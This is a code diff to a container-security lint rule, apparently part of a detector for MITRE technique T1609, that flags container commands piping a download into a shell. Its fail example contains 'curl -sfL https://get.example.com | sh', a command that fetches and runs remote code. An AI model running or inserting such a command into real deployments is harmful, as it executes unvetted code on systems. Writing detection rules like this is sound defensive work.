@@ -27,10 +27,10 @@ export const commandDownload = defineContainerRule({
   references: ['https://attack.mitre.org/techniques/T1609/'],
   alike: 'none known',
   noise: 'Only a download that goes into a shell, in commands, hooks and probes.',
-  example: {
+  example: () => ({
     pass: exampleDeployment({ container: 'command: [/app/web]' }),
     fail: exampleDeployment({ container: 'command: [sh, -c, "curl -sfL https://get.example.com | sh"]' }),
-  },
+  }),
   check({ container }) {
     return firstScript(container, downloadsAndRuns);
   },
